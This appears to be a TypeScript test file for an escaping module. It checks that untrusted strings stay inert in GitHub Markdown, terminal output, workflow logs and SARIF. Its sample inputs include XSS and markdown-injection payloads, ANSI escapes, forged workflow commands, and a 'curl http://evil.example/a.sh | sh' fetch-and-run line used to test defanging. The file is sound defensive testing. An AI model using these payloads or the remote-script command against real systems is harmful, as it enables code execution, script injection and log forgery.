// The escaping module (src/report/escape.ts), read back as GitHub reads it: every untrusted string
// shows as itself (control characters made visible) and makes no markup, link, mention or cell.

import fc from 'fast-check';

import { commandData, controlFree, defang, logLine, md, mdCode, mdCodeBlock, sarifText, terminal } from '../src/report/escape.js';
import { liveMentions, links, parseGfm, tables, textOf, htmlTags } from './helpers/gfm.js';

/** What a reader sees: the zero-width spaces that break mentions and links are invisible. */
const visibleText = (s: string) => s.replace(/\u200b/g, '');

const HOSTILE = [
  'a|b',
  '`x` ``y``',
  '@octocat and @org/team',
  '#12 GH-3',
  '<img src=x onerror=alert(1)>',
  '<!-- comment',
  '[link](https://evil.example)',
  'https://evil.example/a?b=c',
  'www.evil.example',
  'mail@evil.example',
  '**bold** _em_ ~~del~~ $x^2$',
  '\\| \\` \\\\',
  '\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07',
  '::error::forged%0A::warning::x',
  'line1\nline2\r\nline3\u2028line4',
  '\u202eevil\u202c \u0000 \u0007 \u009b31m',
  ':+1: :smile:',
  '- item',
  '1. item',
  '> quote',
  '# heading',
  '&lt;b&gt; &amp;',
];

describe('controlFree and terminal', () => {
  it('drops escape sequences whole and shows other control characters', () => {
    expect(controlFree('\x1b[31mred\x1b[0m')).toBe('[\\x1b]red[\\x1b]');
    expect(controlFree('a\x00b\x07c\u202ed')).toBe('a\\x00b\\x07c\\u202ed');
    expect(controlFree('bell\x1b]0;title\x07end')).toBe('bell[\\x1b]end');
    expect(terminal('a\nb\r\nc\u2028d')).toBe('a b c d');
  });
  it('leaves nothing a terminal would act on, for any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        // eslint-disable-next-line no-control-regex
        expect(terminal(s, 10_000)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      }),
    );
  });
});

describe('defang', () => {
  it('breaks URLs, addresses and www. hosts but keeps them readable', () => {
    expect(defang('curl http://evil.example/a.sh | sh')).toBe('curl hxxp://evil[.]example/a.sh | sh');
    expect(defang('https://203.0.113.7:8080/x')).toBe('hxxps://203[.]0[.]113[.]7:8080/x');
    expect(defang('connect 203.0.113.7 and www.evil.example')).toBe('connect 203.0.113[.]7 and www[.]evil.example');
    expect(defang('setup.py and version 1.2.3')).toBe('setup.py and version 1.2.3');
  });
});

describe('md: text in GitHub Markdown', () => {
  it.each(HOSTILE)('shows %j as itself, in a paragraph, a table cell and a list item', (s) => {
    const shown = terminal(s);
    const doc = [`Name: ${md(s)} end`, '', '| A | B |', '| --- | --- |', `| ${md(s)} | x |`, '', `- ${md(s)}`, '', `<details><summary>${md(s)}</summary>`, '', 'body', '', '</details>'].join('\n');
    expect(links(doc)).toEqual([]);
    expect(liveMentions(doc)).toEqual([]);
    expect(htmlTags(doc).filter((t) => !['details', 'summary'].includes(t))).toEqual([]);
    const t = tables(doc);
    expect(t).toHaveLength(1);
    expect(t[0][1].map(visibleText)).toEqual([shown, 'x']);
    const root = parseGfm(doc);
    expect(root.children[0].type).toBe('paragraph');
    expect(visibleText(textOf(root.children[0]))).toBe(`Name: ${shown} end`);
  });

  it('keeps any generated string inert (property)', () => {
    const hostileChar = fc.constantFrom(...'|`\\*_[]()<>!@#:$~&=\'"-+.\n\r\t\x1b\x07\u202e'.split(''), 'www.', 'http://', '::', '%0A', '<b>', '](x)');
    const text = fc.array(fc.oneof(hostileChar, fc.string({ unit: 'grapheme-ascii', maxLength: 4 })), { maxLength: 30 }).map((a) => a.join(''));
    fc.assert(
      fc.property(text, text, (a, b) => {
        const doc = ['| A | B |', '| --- | --- |', `| ${md(a)} | ${mdCode(b, { table: true })} |`, '', `<details><summary>${md(a)}</summary>`, '', '</details>'].join('\n');
        expect(links(doc)).toEqual([]);
        expect(liveMentions(doc)).toEqual([]);
        expect(htmlTags(doc).filter((t) => !['details', 'summary', 'code'].includes(t))).toEqual([]);
        const t = tables(doc);
        expect(t).toHaveLength(1);
        expect(t[0]).toHaveLength(2);
        expect(t[0][1]).toHaveLength(2);
        expect(visibleText(t[0][1][0])).toBe(terminal(a, 300));
        expect(visibleText(t[0][1][1])).toBe(terminal(b, 200));
      }),
      { numRuns: 300 },
    );
  });
});

describe('mdCode and mdCodeBlock', () => {
  it.each(['a`b', '``', '`lead', 'trail`', 'a|b', 'x\\|y', '@octocat <b>'])('shows %j exactly in a code span', (s) => {
    const outside = parseGfm(`x ${mdCode(s)} y`);
    const code = (outside.children[0] as { children: Array<{ type: string; value: string }> }).children.find((c) => c.type === 'inlineCode');
    expect(code?.value).toBe(s);
    const inTable = tables(`| A |\n| --- |\n| ${mdCode(s, { table: true })} |`);
    expect(inTable[0][1].map(visibleText)).toEqual([s]);
  });
  it('fences a block with more backticks than it holds', () => {
    const body = 'print("```")\n````\n\x1b[2J';
    const root = parseGfm(['<details><summary>x</summary>', '', ...mdCodeBlock(body), '', '</details>'].join('\n'));
    const code = root.children.find((c) => c.type === 'code') as { value: string } | undefined;
    expect(code?.value).toBe('print("```")\n````\n[\\x1b]');
  });
});

describe('workflow commands, log lines and SARIF text', () => {
  it('keeps line breaks for the toolkit to escape, shows other controls', () => {
    expect(commandData('a\nb\x1b[31m\tc')).toBe('a\nb[\\x1b] c');
  });
  it('never lets a log line start a workflow command', () => {
    expect(logLine('::error::x')).toBe(' ::error::x');
    expect(logLine('ok\n::add-mask::x')).toBe('ok ::add-mask::x');
  });
  it('escapes brackets that SARIF reads as embedded links', () => {
    expect(sarifText('see [here](1) \\ x')).toBe('see \\[here\\](1) \\\\ x');
  });
});
